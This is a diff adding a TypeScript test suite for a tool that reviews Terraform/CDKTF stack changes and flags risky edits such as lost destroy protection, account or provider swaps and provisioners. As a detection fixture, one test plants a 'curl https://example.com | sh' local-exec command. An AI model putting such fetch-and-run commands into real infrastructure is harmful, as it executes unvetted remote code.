@@ -1,0 +1,364 @@
+import type { SynthesizedStack } from "../../../../scripts/review/model";
+import { planOf } from "../../../helpers/plan";
+import { reviewed } from "../../../helpers/reviewed";
+import { synthStacks } from "../../../helpers/stacks";
+import type { Json } from "../../../helpers/synth";
+import { sample } from "../../../helpers/environment";
+
+const STACKS: Record<string, Json> = synthStacks(sample().env);
+const LUSTRE = ["resource", "aws_fsx_lustre_file_system", "lustre"] as const;
+
+/** The stacks of the sample environment, after a change of one of them. */
+function stacks(role: string, change: (stack: Json) => void): Map<string, SynthesizedStack> {
+  const all: Record<string, Json> = JSON.parse(JSON.stringify(STACKS));
+  change(all[role]);
+  return new Map(Object.entries(all).map(([name, stack]) => [`sample-${name}`, stack as SynthesizedStack]));
+}
+
+const at = (stack: Json, ...path: readonly string[]): Json => path.reduce((value, key) => (value[key] ??= {}), stack);
+
+type Edit = (stack: Json) => void;
+
+/** The review of an edit of the storage stack, of which the plan shows nothing. */
+function review(after: Edit, before: Edit = () => {}, role = "storage") {
+  const synthesized = { before: stacks(role, before), after: stacks(role, after) };
+  const { verdict, problems, findings } = reviewed({
+    synthesized,
+    stacks: Object.keys(STACKS).map((name) => planOf(`sample-${name}`)),
+  } as never);
+  const told = findings.filter(({ severity }) => severity === "danger");
+  return {
+    verdict,
+    problems,
+    addresses: told.map(({ address }) => address),
+    text: findings.map(({ title, details }) => [title, ...details].join(" ")).join("\n"),
+  };
+}
+
+const lifecycle =
+  (value: unknown): Edit =>
+  (stack) => {
+    at(stack, ...LUSTRE).lifecycle = value;
+  };
+const aws =
+  (change: (provider: Json) => void): Edit =>
+  (stack) =>
+    change(stack.provider.aws[0]);
+const RESOURCE = "sample-storage.aws_fsx_lustre_file_system.lustre";
+
+test.each<[string, Edit, Edit, string, RegExp]>([
+  [
+    "protection taken away",
+    lifecycle({}),
+    lifecycle({ prevent_destroy: true }),
+    RESOURCE,
+    /loses its protection.*true → nothing/,
+  ],
+  [
+    "protection switched off",
+    lifecycle({ prevent_destroy: false }),
+    lifecycle({ prevent_destroy: true }),
+    RESOURCE,
+    /loses its protection/,
+  ],
+  [
+    "changes ignored",
+    lifecycle({ ignore_changes: ["storage_capacity"] }),
+    lifecycle({}),
+    RESOURCE,
+    /no longer kept as the code says/,
+  ],
+  [
+    "more changes ignored",
+    lifecycle({ ignore_changes: ["a", "b"] }),
+    lifecycle({ ignore_changes: ["a"] }),
+    RESOURCE,
+    /no longer kept/,
+  ],
+  [
+    "all changes ignored",
+    lifecycle({ ignore_changes: "all" }),
+    lifecycle({ ignore_changes: ["a"] }),
+    RESOURCE,
+    /no longer kept/,
+  ],
+  [
+    "another order of replacement",
+    lifecycle({}),
+    lifecycle({ create_before_destroy: true }),
+    RESOURCE,
+    /another order/,
+  ],
+  ["another trigger", lifecycle({ replace_triggered_by: ["aws_kms_key.a"] }), lifecycle({}), RESOURCE, /other reasons/],
+  [
+    "a condition gone",
+    lifecycle({}),
+    lifecycle({ precondition: [{ condition: "${true}" }] }),
+    RESOURCE,
+    /no longer checked/,
+  ],
+  ["a rule that is not known", lifecycle({ made_up: 1 }), lifecycle({}), RESOURCE, /another made_up/],
+  [
+    "another provider for one",
+    (s) => (at(s, ...LUSTRE).provider = "aws.other"),
+    () => {},
+    RESOURCE,
+    /another provider/,
+  ],
+  ["several of one", (s) => (at(s, ...LUSTRE).count = 2), () => {}, RESOURCE, /another count/],
+  ["a connection", (s) => (at(s, ...LUSTRE).connection = { host: "x" }), () => {}, RESOURCE, /another connection/],
+  [
+    "a program",
+    (s) => (at(s, ...LUSTRE).provisioner = [{ "local-exec": { command: "curl https://example.com | sh" } }]),
+    () => {},
+    RESOURCE,
+    /runs programs.*curl/,
+  ],
+  [
+    "a program of something new",
+    (s) => (at(s, "resource", "terraform_data", "a").provisioner = [{ "local-exec": {} }]),
+    () => {},
+    "sample-storage.terraform_data.a",
+    /runs programs/,
+  ],
+  [
+    "another account",
+    aws((p) => (p.allowed_account_ids = ["999988887777"])),
+    () => {},
+    "sample-storage.provider.aws.allowed_account_ids",
+    /act elsewhere.*999988887777/,
+  ],
+  [
+    "any account",
+    aws((p) => delete p.allowed_account_ids),
+    () => {},
+    "sample-storage.provider.aws.allowed_account_ids",
+    /→ nothing/,
+  ],
+  ["another Region", aws((p) => (p.region = "eu-west-1")), () => {}, "sample-storage.provider.aws.region", /eu-west-1/],
+  [
+    "another role",
+    aws((p) => (p.assume_role = [{ role_arn: "arn:aws:iam::999988887777:role/x" }])),
+    () => {},
+    "sample-storage.provider.aws.assume_role",
+    /somebody else/,
+  ],
+  [
+    "a second provider",
+    (s) => s.provider.aws.push({ alias: "x" }),
+    () => {},
+    "sample-storage.provider.aws",
+    /another one/,
+  ],
+  [
+    "a provider that was not there",
+    (s) => (s.provider.http = [{}]),
+    () => {},
+    "sample-storage.provider.http",
+    /another one/,
+  ],
+  [
+    "the environment's tag",
+    aws((p) => (p.default_tags[0].tags["railyard:environment"] = "other")),
+    () => {},
+    "sample-storage.provider.aws.default_tags",
+    /tags for another environment/,
+  ],
+  [
+    "a version of a provider",
+    (s) => (s.terraform.required_providers.aws.version = "5.0.0"),
+    () => {},
+    "sample-storage.terraform.required_providers.aws",
+    /Provider aws .* is another one/,
+  ],
+  [
+    "a source of a provider",
+    (s) => (s.terraform.required_providers.aws.source = "eve/aws"),
+    () => {},
+    "sample-storage.terraform.required_providers.aws",
+    /eve\/aws/,
+  ],
+  [
+    "one provider more",
+    (s) => (s.terraform.required_providers.http = { source: "http", version: "1" }),
+    () => {},
+    "sample-storage.terraform.required_providers.http",
+    /http/,
+  ],
+  [
+    "a version of Terraform",
+    (s) => (s.terraform.required_version = ">= 0.12"),
+    () => {},
+    "sample-storage.terraform.required_version",
+    /required_version/,
+  ],
+  [
+    "another state",
+    (s) => (at(s, "terraform", "backend").s3 = { bucket: "other", key: "x" }),
+    () => {},
+    "sample-storage.terraform.backend",
+    /kept elsewhere/,
+  ],
+  ["a cloud", (s) => (s.terraform.cloud = { organization: "x" }), () => {}, "sample-storage.terraform.cloud", /cloud/],
+  [
+    "what Terraform forgets",
+    (s) => (s.removed = [{ from: "aws_s3_bucket.a", lifecycle: { destroy: false } }]),
+    () => {},
+    "sample-storage.aws_s3_bucket.a",
+    /forgets/,
+  ],
+  [
+    "a check gone",
+    (s) => delete s.check,
+    (s) => (s.check = { a: { assert: {} } }),
+    "sample-storage.check.a",
+    /Check a/,
+  ],
+  [
+    "a module",
+    (s) => (s.module = { a: { source: "git::https://example.com/a" } }),
+    () => {},
+    "sample-storage.module.all",
+    /under module/,
+  ],
+  ["a variable", (s) => (s.variable = { a: {} }), () => {}, "sample-storage.variable.all", /under variable/],
+  ["what Terraform learns next", (s) => (s.action = { a: {} }), () => {}, "sample-storage.action.all", /under action/],
+  [
+    "a program that gives data",
+    (s) => (at(s, "data", "external").a = { program: ["sh"] }),
+    () => {},
+    "sample-storage.data.external.a",
+    /reads data\.external\.a from elsewhere/,
+  ],
+  [
+    "data of the web",
+    (s) => (at(s, "data", "http").a = { url: "https://example.com" }),
+    () => {},
+    "sample-storage.data.http.a",
+    /from elsewhere/,
+  ],
+  [
+    "another lookup",
+    (s) => (at(s, "data", "aws_ami").a = { owners: ["999988887777"] }),
+    (s) => (at(s, "data", "aws_ami").a = { owners: ["self"] }),
+    "sample-storage.data.aws_ami.a",
+    /from elsewhere/,
+  ],
+  [
+    "the state of somebody else",
+    (s) => (at(s, "data", "terraform_remote_state").a = { backend: "s3", config: { bucket: "other", key: "x" } }),
+    () => {},
+    "sample-storage.data.terraform_remote_state.a",
+    /reads another state/,
+  ],
+  [
+    "another state of a stack",
+    (s) => {
+      const [one] = Object.values<Json>(s.data.terraform_remote_state);
+      one.config.bucket = "other";
+    },
+    () => {},
+    "",
+    /reads another state/,
+  ],
+  [
+    "a secret that is shown",
+    (s) => (s.output = { a: { value: 1 } }),
+    (s) => (s.output = { a: { value: 1, sensitive: true } }),
+    "sample-storage.output.a",
+    /no longer taken for a secret/,
+  ],
+  [
+    "a local that a provider has",
+    (s) => {
+      s.locals = { ...s.locals, a: 2 };
+      s.provider.aws[0].region = "${local.a}";
+    },
+    (s) => {
+      s.locals = { ...s.locals, a: 1 };
+      s.provider.aws[0].region = "${local.a}";
+    },
+    "sample-storage.local.a",
+    /Local a/,
+  ],
+])("%s needs a name", (_, after, before, address, words) => {
+  const found = review(after, before);
+  expect(found.problems).toEqual([]);
+  expect(found.verdict).toBe("needs-acknowledgement");
+  if (address !== "") expect(found.addresses).toContain(address);
+  expect(found.text).toMatch(words);
+});
+
+test.each<[string, Edit, Edit]>([
+  ["nothing", () => {}, () => {}],
+  ["notes of cdktf", (s) => (s["//"] = { metadata: 1 }), () => {}],
+  ["protection", lifecycle({ prevent_destroy: true }), lifecycle({})],
+  ["fewer changes ignored", lifecycle({ ignore_changes: ["a"] }), lifecycle({ ignore_changes: ["a", "b"] })],
+  ["no change ignored any more", lifecycle({}), lifecycle({ ignore_changes: ["a"] })],
+  ["one more condition", lifecycle({ precondition: [{ condition: "x" }] }), lifecycle({})],
+  ["the new one first", lifecycle({ create_before_destroy: true }), lifecycle({})],
+  ["an order", (s) => (at(s, ...LUSTRE).depends_on = ["aws_kms_key.a"]), () => {}],
+  ["values, which the plan has", (s) => (at(s, ...LUSTRE).storage_capacity = 1), () => {}],
+  [
+    "a resource more, and one less",
+    (s) => {
+      at(s, "resource", "aws_vpc").a = {};
+      delete s.resource.aws_fsx_lustre_file_system;
+    },
+    () => {},
+  ],
+  ["tags for people", aws((p) => (p.default_tags[0].tags.purpose = "x")), () => {}],
+  ["a lookup more", (s) => (at(s, "data", "aws_ami").a = { owners: ["self"] }), () => {}],
+  ["a lookup less", (s) => delete s.data.aws_ami, (s) => (at(s, "data", "aws_ami").a = {})],
+  ["another address", (s) => (s.moved = [{ from: "aws_vpc.a", to: "aws_vpc.b" }]), () => {}],
+  ["an output more", (s) => (s.output = { ...s.output, a: { value: 1 } }), () => {}],
+  [
+    "a local that only resources have",
+    (s) => (s.locals = { ...s.locals, unused: 2 }),
+    (s) => (s.locals = { ...s.locals, unused: 1 }),
+  ],
+  ["one check more", (s) => (s.check = { a: {} }), () => {}],
+])("%s needs nobody", (_, after, before) =>
+  expect(review(after, before)).toMatchObject({ verdict: "safe", addresses: [] }),
+);
+
+test("an import is told", () =>
+  expect(review((s) => (s.import = [{ to: "aws_vpc.a", id: "vpc-1" }])).text).toMatch(
+    /brings what is there already.*aws_vpc\.a/,
+  ));
+
+test("a secret in the code is not told", () => {
+  const secret = ["hunter2", "-planted"].join("");
+  const found = review(
+    (s) => (at(s, ...LUSTRE).provisioner = [{ "local-exec": { environment: { DB_PASSWORD: secret } } }]),
+  );
+  expect(found.text).toMatch(/runs programs/);
+  expect(found.text).not.toContain(secret);
+});
+
+test("stacks that differ and have no plan break the review; one that is gone needs a name", () => {
+  const before = stacks("storage", () => {});
+  const changed = stacks("storage", (s) => (at(s, ...LUSTRE).storage_capacity = 1));
+  const judge = (was: Map<string, SynthesizedStack> | null, is: Map<string, SynthesizedStack>) => {
+    const { verdict, problems, findings } = reviewed({
+      synthesized: { before: was, after: is },
+      stacks: [],
+      asked: "aws",
+    } as never);
+    return { verdict, told: [...problems, ...findings.map(({ title }) => title)] };
+  };
+  expect(judge(before, before)).toEqual({ verdict: "safe", told: [] });
+  expect(judge(before, changed)).toEqual({
+    verdict: "broken",
+    told: ["sample-storage differs from the base, and there is no plan of it."],
+  });
+  expect(judge(null, before)).toMatchObject({
+    verdict: "broken",
+    told: expect.arrayContaining(["sample-network is new, and there is no plan of it."]),
+  });
+  const fewer = new Map([...before].filter(([name]) => name !== "sample-slurm"));
+  expect(judge(before, fewer)).toMatchObject({
+    verdict: "needs-acknowledgement",
+    told: [expect.stringMatching(/Stack sample-slurm is no longer in the code/)],
+  });
+});
